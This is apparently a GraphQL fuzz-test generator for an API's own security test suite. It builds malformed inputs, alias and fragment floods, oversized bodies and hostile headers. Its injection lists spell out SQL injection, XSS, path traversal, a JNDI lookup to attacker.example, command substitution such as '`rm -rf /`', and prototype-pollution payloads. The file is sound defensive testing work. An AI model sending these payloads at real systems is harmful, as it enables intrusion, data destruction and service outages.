import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  buildSchema,
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedType,
  type GraphQLObjectType,
  type GraphQLOutputType,
  type GraphQLSchema,
} from 'graphql';

/**
 * Schema-driven bad-input generator for the `30-bad-input` assurance suite (fuzz.e2e-spec.ts).
 *
 * From the live API (`schema.graphql`, or any schema) it builds, for every field of Query and
 * Mutation, one document with a valid selection set and every argument as a variable, then many
 * malformed variable sets: wrong types, null and missing for non-null, unknown and prototype
 * pollution keys, out-of-range numbers, malformed ids and dates, invalid enum values, huge strings,
 * hostile unicode, injection strings, deep nesting. Separately, document-level and HTTP-level
 * attacks (depth, aliases, batching, fragment cycles, directive floods, huge documents, bad JSON,
 * wrong content types, GET mutations, hostile headers). Everything is derived from a seed, so a run
 * is reproducible (`FUZZ_SEED`).
 */

// ---------------------------------------------------------------------------------------------
// Deterministic randomness
// ---------------------------------------------------------------------------------------------

export type Rng = () => number;

/** mulberry32: a small seeded PRNG (uniform in [0, 1)). */
export function rng(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(r: Rng, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;

function uuid(r: Rng): string {
  const hex = () => Math.floor(r() * 16).toString(16);
  const s = Array.from({ length: 32 }, hex).join('');
  return `${s.slice(0, 8)}-${s.slice(8, 12)}-4${s.slice(13, 16)}-a${s.slice(17, 20)}-${s.slice(20, 32)}`;
}

// ---------------------------------------------------------------------------------------------
// Hostile values by category
// ---------------------------------------------------------------------------------------------

export const CATEGORIES = [
  'wrong-type',
  'null-for-non-null',
  'missing-non-null',
  'unknown-field',
  'prototype-pollution',
  'out-of-range',
  'malformed-id',
  'malformed-date',
  'invalid-enum',
  'huge-string-100k',
  'huge-string-1m',
  'unicode',
  'injection',
  'deep-nesting',
] as const;
export type Category = (typeof CATEGORIES)[number];

export const INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  "1; DROP TABLE staff; --",
  "'; SELECT pg_sleep(5); --",
  "\" OR \"\"=\"",
  "admin'--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}${7*7}<%= 7*7 %>',
  'header\r\nSet-Cookie: session=evil',
  'line\nbreak\r\n\r\nHTTP/1.1 200 OK',
  '%s%s%s%n%x%d',
  '__proto__',
  'constructor',
  'prototype',
  '$where',
  '{"$gt": ""}',
  '*)(uid=*))(|(uid=*',
  '`rm -rf /`',
  '$(id)',
  'a'.repeat(300),
];

/** NoSQL-style operator objects, sent where a scalar belongs. */
export const OPERATOR_OBJECTS: readonly unknown[] = [{ $gt: '' }, { $ne: null }, { $where: 'sleep(1000)' }, { $regex: '.*' }, { $in: ['a'] }];

export const UNICODE: readonly string[] = [
  '😀🙈💥👩‍👩‍👧‍👦',
  '\u202Eevil\u202C rtl override',
  'مرحبا بالعالم',
  'zero\u200Bwidth\u200C\u200D\uFEFF',
  'Z̵̡̛̖̈́a̸̧̛͔l̷̢̛g̶̨̛o̵̧̕',
  'nul\u0000byte',
  'lone \uD800 surrogate',
  'lone \uDFFF low surrogate',
  '\uFFFE\uFFFF noncharacters',
  '\u0007\u001B[31mansi\u001B[0m',
  'İıŞşĞğ ǅǈ ß ﬁ',
  '𝕏𝕐ℤ 𐍈 𠜎',
];

export const MALFORMED_IDS: readonly unknown[] = [
  '',
  ' ',
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '123e4567-e89b-12d3-a456-42661417400',
  '123e4567-e89b-12d3-a456-4266141740000',
  '{123e4567-e89b-12d3-a456-426614174000}',
  '123e4567e89b12d3a456426614174000',
  "123e4567-e89b-12d3-a456-426614174000' OR '1'='1",
  '123e4567-e89b-12d3-a456-426614174000\u0000',
  '-1',
  0,
  -1,
  1.5,
  2 ** 53,
];

export const MALFORMED_DATES: readonly unknown[] = [
  '2024-02-30',
  '2023-02-29',
  '2024-13-01',
  '2024-00-10',
  '0000-00-00',
  '99999-01-01',
  '-0001-01-01',
  '2024-1-1',
  '2024/01/01',
  '01-02-2024',
  'yesterday',
  '2024-01-01T25:00:00Z',
  '2024-01-01T00:00:00+99:00',
  '1e308',
  '',
  '\u0000',
];

export const OUT_OF_RANGE_INTS: readonly unknown[] = [-1, 0, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 1, 1e308, -1e308, 0.5, -0.0000001, '1', '0x10'];
export const OUT_OF_RANGE_FLOATS: readonly unknown[] = [-1, 1e308, -1e308, 5e-324, 2 ** 31, '1.5', true];

/** Strings that are not the enum's values. */
export function badEnums(values: string[]): unknown[] {
  const v = values[0] ?? 'X';
  return [v.toLowerCase(), `${v} `, `${v}\u0000`, 'NOT_A_VALUE', '', 0, 1, true, '__proto__', 'X'.repeat(10_000)];
}

export const HUGE_100K = 'x'.repeat(100 * 1024);
const BASE64 = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'];
/**
 * Over NATS's default max_payload (1 MB) on its own, even gzipped (bodies over 64 kB cross NATS
 * compressed): 1.5 MiB of base64 characters drawn with a fixed seed, which gzip cannot shrink below
 * 6 bits a character (≈ 1.1 MiB).
 */
const hugeDraw = rng(0x9e3779b9);
export const HUGE_1M = Array.from({ length: 1.5 * 1024 * 1024 }, () => pick(hugeDraw, BASE64)).join('');

function deepObject(depth: number): unknown {
  let v: unknown = 'leaf';
  for (let i = 0; i < depth; i++) v = { nested: v };
  return v;
}
function deepList(depth: number): unknown {
  let v: unknown = 'leaf';
  for (let i = 0; i < depth; i++) v = [v];
  return v;
}

// ---------------------------------------------------------------------------------------------
// Schema walking
// ---------------------------------------------------------------------------------------------

export function repoSchema(): GraphQLSchema {
  const root = join(dirname(fileURLToPath(import.meta.url)), '../../../..');
  return buildSchema(readFileSync(join(root, 'schema.graphql'), 'utf8'));
}

/** A selection set for a return type: its leaf fields without required arguments (nested objects one level). */
export function selectionFor(type: GraphQLOutputType, depth = 0): string {
  const named = getNamedType(type);
  if (isLeafType(named)) return '';
  if (!isObjectType(named)) return '{ __typename }';
  const fields = Object.values(named.getFields()).filter((f) => !f.args.some((a) => isNonNullType(a.type) && a.defaultValue === undefined));
  const leaves = fields.filter((f) => isLeafType(getNamedType(f.type))).map((f) => f.name);
  const nested =
    depth < 1
      ? fields
          .filter((f) => isObjectType(getNamedType(f.type)))
          .slice(0, 3)
          .map((f) => `${f.name} ${selectionFor(f.type, depth + 1)}`)
      : [];
  const parts = [...leaves, ...nested];
  return `{ ${parts.length ? parts.join(' ') : '__typename'} }`;
}

function typeRef(t: GraphQLInputType): string {
  return t.toString();
}

export interface Operation {
  kind: 'query' | 'mutation';
  field: string;
  document: string;
  args: readonly GraphQLArgument[];
}

/** Every Query and Mutation field as one operation with every argument a variable. */
export function operations(schema: GraphQLSchema): Operation[] {
  const out: Operation[] = [];
  for (const [kind, root] of [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
  ] as const) {
    if (!root) continue;
    for (const f of Object.values(root.getFields()) as GraphQLField<unknown, unknown>[]) {
      const vars = f.args.map((a) => `$${a.name}: ${typeRef(a.type)}`).join(', ');
      const args = f.args.map((a) => `${a.name}: $${a.name}`).join(', ');
      const document = `${kind} Fuzz${vars ? `(${vars})` : ''} { ${f.name}${args ? `(${args})` : ''} ${selectionFor(f.type)} }`;
      out.push({ kind, field: f.name, document, args: f.args });
    }
  }
  return out;
}

/** Ids the valid baseline uses for well-known argument names (real objects go deeper into the handlers). */
export type IdPool = Record<string, string>;

function validLeaf(t: GraphQLNamedType, name: string, r: Rng, ids: IdPool): unknown {
  if (isEnumType(t)) return t.getValues()[0]!.value as unknown;
  if (isScalarType(t)) {
    switch (t.name) {
      case 'ID':
        return ids[name] ?? uuid(r);
      case 'Int':
        return /limit|size|first/i.test(name) ? 10 : 1;
      case 'Float':
        return 1.5;
      case 'Boolean':
        return false;
      default:
        if (/email/i.test(name)) return 'fuzz@example.test';
        if (/(On|Date|asOf|From|To|Until|Since)$|^(from|to|date|on)$/.test(name)) return '2026-01-15';
        if (/password/i.test(name)) return 'a long enough password 1';
        if (/locale|language/i.test(name)) return 'en';
        if (/(^id$|Id$)/.test(name)) return ids[name] ?? uuid(r);
        return 'fuzz';
    }
  }
  return null;
}

/** A type-correct value (required input fields only). */
export function validValue(type: GraphQLInputType, name: string, r: Rng, ids: IdPool, depth = 0): unknown {
  const t = getNullableType(type) as GraphQLInputType;
  if (isListType(t)) return [validValue(t.ofType as GraphQLInputType, name, r, ids, depth + 1)];
  if (isInputObjectType(t)) {
    const o: Record<string, unknown> = {};
    if (depth > 4) return o;
    for (const f of Object.values(t.getFields())) {
      if (isNonNullType(f.type) && f.defaultValue === undefined) o[f.name] = validValue(f.type, f.name, r, ids, depth + 1);
    }
    return o;
  }
  return validLeaf(t as GraphQLNamedType, name, r, ids);
}

/** One place in the variables (a variable, an input field, a list item) and its type. */
interface Slot {
  path: (string | number)[];
  type: GraphQLInputType;
  name: string;
}

function slots(args: readonly GraphQLArgument[]): Slot[] {
  const out: Slot[] = [];
  const walk = (path: (string | number)[], type: GraphQLInputType, name: string, depth: number) => {
    out.push({ path, type, name });
    const t = getNullableType(type) as GraphQLInputType;
    if (depth >= 3) return;
    if (isListType(t)) walk([...path, 0], t.ofType as GraphQLInputType, name, depth + 1);
    else if (isInputObjectType(t)) for (const f of Object.values(t.getFields())) walk([...path, f.name], f.type, f.name, depth + 1);
  };
  for (const a of args) walk([a.name], a.type, a.name, 0);
  return out;
}

/** Sets (or with `remove`, deletes) the value at `path`, creating the parents a valid value would have. */
function setAt(root: Record<string, unknown>, slotPath: (string | number)[], value: unknown, remove = false): void {
  let cur: any = root;
  for (let i = 0; i < slotPath.length - 1; i++) {
    const k = slotPath[i]!;
    const nextIsIndex = typeof slotPath[i + 1] === 'number';
    if (cur[k] === null || typeof cur[k] !== 'object') cur[k] = nextIsIndex ? [] : {};
    cur = cur[k];
  }
  const last = slotPath[slotPath.length - 1]!;
  if (remove) {
    // A missing list item is a hole (JSON null): the list must be long enough to have one, else a
    // generated empty list would stay valid and the case would test nothing.
    if (Array.isArray(cur) && typeof last === 'number') cur.length = Math.max(cur.length, last + 1);
    delete cur[last];
  } else cur[last] = value;
}

function fillParents(base: Record<string, unknown>, s: Slot, args: readonly GraphQLArgument[], r: Rng, ids: IdPool): Record<string, unknown> {
  // The baseline has required fields only: an optional input object on the path gets a valid value first.
  const v = structuredClone(base);
  const arg = args.find((a) => a.name === s.path[0])!;
  if (v[arg.name] === undefined || v[arg.name] === null) v[arg.name] = validValue(arg.type, arg.name, r, ids);
  return v;
}

export interface FuzzCase {
  /** `query.field` or `mutation.field`. */
  operation: string;
  category: Category;
  /** Where the bad value went, e.g. `input.email`. */
  at: string;
  document: string;
  /** The variables; `rawBody` overrides the JSON body when a value cannot go through JSON.stringify (e.g. `__proto__` keys). */
  variables: Record<string, unknown>;
  rawBody?: string;
}

function wrongTypes(type: GraphQLInputType): unknown[] {
  const t = getNullableType(type) as GraphQLInputType;
  if (isListType(t)) return ['not a list', { item: 1 }, [[[1]]]];
  if (isInputObjectType(t)) return ['a string', 42, [], true];
  if (isEnumType(t)) return [1, true, { value: 'X' }, ['X']];
  switch ((t as GraphQLNamedType).name) {
    case 'Int':
      return ['12', true, { n: 1 }, [1], 1.25];
    case 'Float':
      return ['1.5', false, {}, [1.5]];
    case 'Boolean':
      return ['true', 1, 0, {}, 'false'];
    case 'ID':
      return [true, {}, [], 1.5, ...OPERATOR_OBJECTS.slice(0, 2)];
    default:
      return [42, true, {}, ['a', 'b'], ...OPERATOR_OBJECTS];
  }
}

/**
 * The malformed variable sets for one operation: per slot a few values of the categories that fit
 * its type, then per operation the structural ones (unknown keys, prototype pollution, huge strings,
 * deep nesting). At most `max` cases, chosen deterministically.
 */
export function malformedCases(op: Operation, r: Rng, ids: IdPool, opts: { max?: number; oneMegabyte?: boolean } = {}): FuzzCase[] {
  const operation = `${op.kind}.${op.field}`;
  const base: Record<string, unknown> = {};
  for (const a of op.args) {
    if (isNonNullType(a.type)) base[a.name] = validValue(a.type, a.name, r, ids);
  }
  const out: FuzzCase[] = [];
  const add = (category: Category, s: Slot | undefined, mutate: (v: Record<string, unknown>) => void, rawBody?: (v: Record<string, unknown>) => string) => {
    const v = s ? fillParents(base, s, op.args, r, ids) : structuredClone(base);
    mutate(v);
    out.push({ operation, category, at: s ? s.path.join('.') : '(operation)', document: op.document, variables: v, ...(rawBody ? { rawBody: rawBody(v) } : {}) });
  };
  const all = slots(op.args);
  for (const s of all) {
    const named = getNamedType(s.type);
    const sample = <T>(xs: readonly T[], n: number): T[] => Array.from({ length: Math.min(n, xs.length) }, () => pick(r, xs));
    for (const w of sample(wrongTypes(s.type), 1)) add('wrong-type', s, (v) => setAt(v, s.path, w));
    if (isNonNullType(s.type)) {
      add('null-for-non-null', s, (v) => setAt(v, s.path, null));
      add('missing-non-null', s, (v) => setAt(v, s.path, undefined, true));
    }
    const leaf = isLeafType(getNullableType(s.type));
    if (!leaf) continue;
    if (isEnumType(named)) {
      for (const e of sample(badEnums(named.getValues().map((x) => x.name)), 2)) add('invalid-enum', s, (v) => setAt(v, s.path, e));
      continue;
    }
    switch (named.name) {
      case 'Int':
        for (const n of sample(OUT_OF_RANGE_INTS, 3)) add('out-of-range', s, (v) => setAt(v, s.path, n));
        break;
      case 'Float':
        for (const n of sample(OUT_OF_RANGE_FLOATS, 2)) add('out-of-range', s, (v) => setAt(v, s.path, n));
        break;
      case 'Boolean':
        break;
      case 'ID':
        for (const id of sample(MALFORMED_IDS, 2)) add('malformed-id', s, (v) => setAt(v, s.path, id));
        add('injection', s, (v) => setAt(v, s.path, pick(r, INJECTIONS)));
        break;
      default: {
        const str = validLeaf(named, s.name, r, ids);
        if (str === '2026-01-15') for (const d of sample(MALFORMED_DATES, 2)) add('malformed-date', s, (v) => setAt(v, s.path, d));
        add('injection', s, (v) => setAt(v, s.path, pick(r, INJECTIONS)));
        add('unicode', s, (v) => setAt(v, s.path, pick(r, UNICODE)));
      }
    }
  }
  // Structural cases, once per operation where the operation has the right kind of slot.
  const objectSlots = all.filter((s) => isInputObjectType(getNullableType(s.type)));
  const stringSlots = all.filter((s) => { const n = getNamedType(s.type); return isScalarType(n) && (n.name === 'String' || n.name === 'ID') && isLeafType(getNullableType(s.type)); });
  const listSlots = all.filter((s) => isListType(getNullableType(s.type)));
  if (objectSlots.length) {
    const s = pick(r, objectSlots);
    add('unknown-field', s, (v) => setAt(v, [...s.path, 'fuzzExtraField'], 'x'));
    add('unknown-field', s, (v) => setAt(v, [...s.path, 'isAdmin'], true));
    add('deep-nesting', s, (v) => setAt(v, s.path, deepObject(2000)));
    // JSON.stringify drops nothing, but an object literal's `__proto__` key is the prototype: splice it into the JSON text.
    const key = 'fuzzPrototypeMarker';
    add('prototype-pollution', s, (v) => setAt(v, [...s.path, key], 1), (v) =>
      JSON.stringify({ query: op.document, variables: v }).replace(`"${key}":1`, '"__proto__":{"isAdmin":true,"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}'),
    );
  } else if (op.args.length) {
    add('unknown-field', undefined, (v) => (v.fuzzUndeclaredVariable = 'x'));
    add('prototype-pollution', undefined, () => undefined, (v) =>
      JSON.stringify({ query: op.document, variables: v }).replace(/\}\}$/, `${Object.keys(v).length ? ',' : ''}"__proto__":{"polluted":"yes"}}}`),
    );
  }
  if (listSlots.length) {
    const s = pick(r, listSlots);
    add('deep-nesting', s, (v) => setAt(v, s.path, deepList(3000)));
    add('deep-nesting', s, (v) => setAt(v, s.path, Array.from({ length: 20_000 }, (_, i) => `item${i}`)));
  }
  if (stringSlots.length) {
    const s = pick(r, stringSlots);
    add('huge-string-100k', s, (v) => setAt(v, s.path, HUGE_100K));
    if (opts.oneMegabyte !== false) add('huge-string-1m', s, (v) => setAt(v, s.path, HUGE_1M));
  }
  const max = opts.max ?? 60;
  if (out.length <= max) return out;
  // Keep every structural case and a deterministic sample of the per-slot ones.
  const structural = new Set<Category>(['unknown-field', 'prototype-pollution', 'deep-nesting', 'huge-string-100k', 'huge-string-1m']);
  const keep = out.filter((c) => structural.has(c.category));
  const rest = out.filter((c) => !structural.has(c.category));
  while (keep.length < max && rest.length) keep.push(rest.splice(Math.floor(r() * rest.length), 1)[0]!);
  return keep;
}

// ---------------------------------------------------------------------------------------------
// Document- and HTTP-level attacks
// ---------------------------------------------------------------------------------------------

export interface RawRequest {
  name: string;
  category: string;
  method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH';
  /** Path and query string after the base URL, e.g. `/graphql?query=...`. */
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  /** Must the platform refuse this request (no data at all)? */
  mustRefuse: boolean;
  /** Send the caller's token (when the role has one). */
  auth?: boolean;
}

const JSON_HEADERS = { 'content-type': 'application/json' };
const post = (name: string, category: string, body: unknown, mustRefuse = true, headers: Record<string, string> = JSON_HEADERS): RawRequest => ({
  name,
  category,
  method: 'POST',
  path: '/graphql',
  headers,
  body: typeof body === 'string' ? body : JSON.stringify(body),
  mustRefuse,
  auth: true,
});

/** A chain of fields from Query, as deep as asked, through fields without required arguments (a type may repeat). */
export function deepChain(schema: GraphQLSchema, depth: number): string | undefined {
  const q = schema.getQueryType()!;
  const noRequired = (f: GraphQLField<unknown, unknown>) => !f.args.some((a) => isNonNullType(a.type) && a.defaultValue === undefined);
  const objectFields = (t: GraphQLObjectType) => Object.values(t.getFields()).filter((f) => noRequired(f) && isObjectType(getNamedType(f.type)));
  const dfs = (t: GraphQLObjectType, left: number, seen: Map<string, number>): string[] | undefined => {
    if (left === 0) return [];
    for (const f of objectFields(t)) {
      const next = getNamedType(f.type) as GraphQLObjectType;
      const key = `${t.name}.${f.name}`;
      if ((seen.get(key) ?? 0) > 0 && !objectFields(next).some((g) => getNamedType(g.type) === next)) continue;
      const rest = dfs(next, left - 1, new Map(seen).set(key, (seen.get(key) ?? 0) + 1));
      if (rest) return [f.name, ...rest];
    }
    return undefined;
  };
  const chain = dfs(q, depth, new Map());
  if (!chain) return undefined;
  return chain.reduceRight((inner, f) => `${f} { ${inner} }`, '__typename');
}

export function documentAttacks(schema: GraphQLSchema, limits: { maxDepth: number; maxAliases: number }): RawRequest[] {
  const me = 'me { accountId }';
  const out: RawRequest[] = [];
  const deep = deepChain(schema, limits.maxDepth + 5);
  if (deep) out.push(post('depth over the limit', 'depth', { query: `{ ${deep} }` }));
  const veryDeep = deepChain(schema, 200);
  if (veryDeep) out.push(post('depth 200', 'depth', { query: `{ ${veryDeep} }` }));
  out.push(post('selection nesting 3000 deep (parser)', 'depth', { query: `{ me ${'{ accountId '.repeat(3000)}${'}'.repeat(3000)} }` }));
  out.push(post('list literal nesting 5000 deep', 'depth', { query: `{ staff(filter: { search: ${'['.repeat(5000)}"x"${']'.repeat(5000)} }) { total } }` }));
  out.push(post('object literal nesting 5000 deep', 'depth', { query: `{ staff(filter: ${'{ search: '.repeat(5000)}"x"${' }'.repeat(5000)}) { total } }` }));
  for (const n of [limits.maxAliases + 1, 1000, 10_000]) {
    out.push(post(`${n} aliases`, 'aliases', { query: `{ ${Array.from({ length: n }, (_, i) => `a${i}: ${me}`).join(' ')} }` }));
  }
  out.push(post('1000 __typename aliases', 'aliases', { query: `{ ${Array.from({ length: 1000 }, (_, i) => `t${i}: __typename`).join(' ')} }` }));
  out.push(post('the same field 5000 times (no aliases)', 'aliases', { query: `{ ${Array.from({ length: 5000 }, () => me).join(' ')} }` }));
  out.push(post('batch of 2', 'batching', [{ query: `{ ${me} }` }, { query: `{ ${me} }` }]));
  out.push(post('batch of 1000', 'batching', Array.from({ length: 1000 }, () => ({ query: `{ ${me} }` }))));
  out.push(post('batch of 1 login', 'batching', [{ query: 'mutation { login(input: { email: "a@b.dk", password: "x" }) { accessToken } }' }]));
  out.push(post('empty batch', 'batching', []));
  const many = Array.from({ length: 500 }, (_, i) => `query Q${i} { ${me} }`).join('\n');
  // Within the token limit, many operations in one document are valid GraphQL (only the named one runs).
  out.push(post('500 operations, one named', 'operations', { query: many, operationName: 'Q7' }, false));
  out.push(post('2000 operations (over the token limit)', 'operations', { query: Array.from({ length: 2000 }, (_, i) => `query Q${i} { ${me} }`).join('\n'), operationName: 'Q7' }));
  out.push(post('500 operations, none named', 'operations', { query: many }));
  out.push(post('unknown operationName', 'operations', { query: `query A { ${me} }`, operationName: 'B' }));
  out.push(post('operationName not a string', 'operations', { query: `query A { ${me} }`, operationName: { a: 1 } }));
  out.push(post('anonymous and named operations', 'operations', { query: `{ ${me} } query A { ${me} }` }));
  out.push(post('subscription', 'operations', { query: 'subscription { me { accountId } }' }));
  out.push(post('fragment cycle', 'fragments', { query: `{ me { ...A } } fragment A on Me { accountId ...B } fragment B on Me { accountId ...A }` }));
  out.push(post('self-spreading fragment', 'fragments', { query: `{ me { ...A } } fragment A on Me { ...A }` }));
  out.push(post('fragment on the wrong type', 'fragments', { query: `{ me { ...A } } fragment A on Mutation { __typename }` }));
  out.push(post('unknown fragment', 'fragments', { query: `{ me { ...Nope } }` }));
  out.push(post('fragment bomb', 'fragments', {
    query: `{ me { ...F0 } } ${Array.from({ length: 30 }, (_, i) => `fragment F${i} on Me { accountId ${i < 29 ? `...F${i + 1} ...F${i + 1}` : ''} }`).join(' ')}`,
  }));
  out.push(post('1000 @include directives', 'directives', { query: `{ me ${'@include(if: true) '.repeat(1000)}{ accountId } }` }));
  out.push(post('1000 unknown directives', 'directives', { query: `{ me ${'@fuzz '.repeat(1000)}{ accountId } }` }));
  out.push(post('@skip with a variable of the wrong type', 'directives', { query: `query($s: Boolean!) { me @skip(if: $s) { accountId } }`, variables: { s: 'yes' } }));
  out.push(post('1 MB comment document', 'huge-document', { query: `# ${'c'.repeat(1024 * 1024)}\n{ ${me} }` }, false));
  out.push(post('1 MB string literal', 'huge-document', { query: `{ staff(filter: { search: "${'s'.repeat(1024 * 1024)}" }) { total } }` }, false));
  out.push(post('20000 tokens', 'huge-document', { query: `{ me { ${'accountId '.repeat(20_000)} } }` }));
  out.push(post('7 MB body (over the body limit)', 'huge-document', { query: `{ ${me} }`, variables: { pad: 'p'.repeat(7 * 1024 * 1024) } }));
  out.push(post('huge integer literal', 'huge-document', { query: `{ staff(page: { limit: 99999999999999999999999999 }) { total } }` }));
  out.push(post('float literal for an Int', 'huge-document', { query: `{ staff(page: { limit: 1e308 }) { total } }` }));
  // Invalid JSON and odd bodies.
  // Invalid JSON and odd bodies; the few that are valid after all (JSON's last duplicate key wins,
  // a BOM is skipped, `__proto__` is a plain key to JSON.parse) may be answered.
  const valid = new Set(['{"query": "{ me { accountId } }", "query": "{ __typename }"}', '\uFEFF{"query": "{ __typename }"}', '{"query": "{ me { accountId } }", "__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}']);
  const bad = ['', '{', 'not json', '{"query": ', '[', ']', 'null', 'true', '123', '"{ me { accountId } }"', '{"query": 1}', '{"query": null}', '{"query": ["{ me { accountId } }"]}', '{"query": {}}', '{"query": ""}', '{"query": "   "}', '{"query": "{ me { accountId } }", "variables": "x"}', '{"query": "{ me { accountId } }", "variables": [1]}', '{"query": "{ me { accountId } }", "extensions": "x"}', '{"query": "{ me { accountId } }", "extensions": {"persistedQuery": {"version": 1, "sha256Hash": "abc"}}}', '{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "00"}}}', ...valid, '{"query": "{ me \\u0000 { accountId } }"}', '{"query": "{ me { accountId } }" } trailing', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`, '{"query":"\\ud800"}', '{"__proto__": {"query": "{ me { accountId } }"}}'];
  bad.forEach((b, i) => out.push(post(`bad JSON body #${i}: ${JSON.stringify(b.slice(0, 40))}`, 'invalid-json', b, !valid.has(b))));
  out.push(post('invalid UTF-8 bytes', 'invalid-json', Buffer.from([0x7b, 0x22, 0x71, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0x22, 0x7d]) as never, true));
  // Wrong content types (CSRF prevention refuses "simple" requests without a preflight header).
  const q = JSON.stringify({ query: `{ ${me} }` });
  for (const ct of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/graphql', 'application/xml', 'application/json; charset=utf-16', 'application/json; charset=latin1', 'application/JSON; charset=UTF-8', 'application/json-patch+json']) {
    out.push(post(`content-type ${ct}`, 'content-type', q, !ct.toLowerCase().startsWith('application/json; charset=utf-8'), { 'content-type': ct }));
  }
  out.push({ name: 'no content-type', category: 'content-type', method: 'POST', path: '/graphql', headers: {}, body: q, mustRefuse: true, auth: true });
  out.push(post('text/plain with a preflight header', 'content-type', q, true, { 'content-type': 'text/plain', 'apollo-require-preflight': 'true' }));
  // GET.
  const enc = encodeURIComponent;
  out.push({ name: 'GET query without a preflight header (CSRF)', category: 'get', method: 'GET', path: `/graphql?query=${enc(`{ ${me} }`)}`, headers: {}, mustRefuse: true, auth: true });
  out.push({ name: 'GET mutation', category: 'get', method: 'GET', path: `/graphql?query=${enc('mutation { logout(input: { refreshToken: "x" }) }')}`, headers: { 'apollo-require-preflight': 'true' }, mustRefuse: true, auth: true });
  out.push({ name: 'GET mutation selected by operationName', category: 'get', method: 'GET', path: `/graphql?query=${enc(`query A { ${me} } mutation B { logout(input: { refreshToken: "x" }) }`)}&operationName=B`, headers: { 'apollo-require-preflight': 'true' }, mustRefuse: true, auth: true });
  out.push({ name: 'GET with malformed variables', category: 'get', method: 'GET', path: `/graphql?query=${enc(`{ ${me} }`)}&variables=%7Bnot-json`, headers: { 'apollo-require-preflight': 'true' }, mustRefuse: true, auth: true });
  out.push({ name: 'GET with a 60 kB query string', category: 'get', method: 'GET', path: `/graphql?query=${enc(`{ ${me} }`)}&pad=${'a'.repeat(60_000)}`, headers: { 'apollo-require-preflight': 'true' }, mustRefuse: false, auth: true });
  for (const m of ['PUT', 'DELETE', 'PATCH'] as const) out.push({ name: `${m} /graphql`, category: 'method', method: m, path: '/graphql', headers: JSON_HEADERS, body: q, mustRefuse: true, auth: true });
  // Hostile headers on an otherwise valid request.
  const hdr = (name: string, headers: Record<string, string>, auth = false): RawRequest => ({ name, category: 'headers', method: 'POST', path: '/graphql', headers: { ...JSON_HEADERS, ...headers }, body: q, mustRefuse: false, auth });
  for (const a of ['Bearer', 'Bearer ', 'Bearer not.a.jwt', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', `Bearer ${'a'.repeat(8000)}`, 'Basic YWRtaW46YWRtaW4=', 'bearer x y z', 'Bearer ${jndi:ldap://x/a}', `Bearer ${'eyJ'.repeat(100)}.${'eyJ'.repeat(100)}.sig`]) {
    out.push(hdr(`authorization ${JSON.stringify(a.slice(0, 30))}`, { authorization: a }));
  }
  for (const l of ['__proto__', 'constructor', '../../../../etc/passwd', 'xx-XX;q=abc', '*;q=2', `${'da,'.repeat(2000)}en`, 'en-US-x-'.repeat(50), '']) {
    out.push(hdr(`accept-language ${JSON.stringify(l.slice(0, 30))}`, { 'accept-language': l }, true));
  }
  for (const t of ['00-zzzz-zzzz-01', '00-00000000000000000000000000000000-0000000000000000-00', `00-${'f'.repeat(2000)}`, '__proto__']) {
    out.push(hdr(`traceparent ${JSON.stringify(t.slice(0, 30))}`, { traceparent: t }, true));
  }
  out.push(hdr('x-forwarded-for 4000 addresses', { 'x-forwarded-for': Array.from({ length: 4000 }, (_, i) => `10.0.${i % 250}.${i % 250}`).join(', ') }, true));
  return out;
}

// ---------------------------------------------------------------------------------------------
// Judging a response
// ---------------------------------------------------------------------------------------------

/** Codes GraphQL and Apollo give malformed requests (passed through by platform-graphql's formatError). */
export const REQUEST_CODES = ['GRAPHQL_PARSE_FAILED', 'GRAPHQL_VALIDATION_FAILED', 'BAD_USER_INPUT', 'BAD_REQUEST', 'PERSISTED_QUERY_NOT_FOUND', 'PERSISTED_QUERY_NOT_SUPPORTED', 'OPERATION_RESOLUTION_FAILURE'];

// Linear-time patterns only: responses may echo a megabyte of input, and a backtracking pattern
// (`[\w-]+\.ts`) over it would block the event loop the platform under test shares with this judge.
const STACK = /(?:\n|\\n)\s{0,20}at [\w.<>]{1,200} |^\s{1,20}at [\w.<>]{1,200} \(|\bat [\w.<>]{1,200} \([^)\n]{0,300}:\d+:\d+\)|stacktrace|"stack"\s*:/m;
const PATHS = /node_modules|file:\/\/|\/(?:work|home|usr|opt|app|src)\/[\w./-]{0,200}\.(?:ts|js|mjs|cjs)\b|\.(?:ts|mjs|cjs|js):\d+:\d+/;
const SQL = /syntax error at or near|duplicate key value|violates [\w-]+ (key )?constraint|invalid input syntax for|relation "[^"]+" does not exist|column "[^"]+" (does not exist|of relation)|\bselect\s+[^;]{0,200}?\bfrom\s+"|insert into "|update "[^"]+" set|delete from "|DriverException|QueryFailedError|ValidationError: |TypeError: |ReferenceError: |RangeError: |SyntaxError: Unexpected token/i;

export interface Verdict {
  status: number;
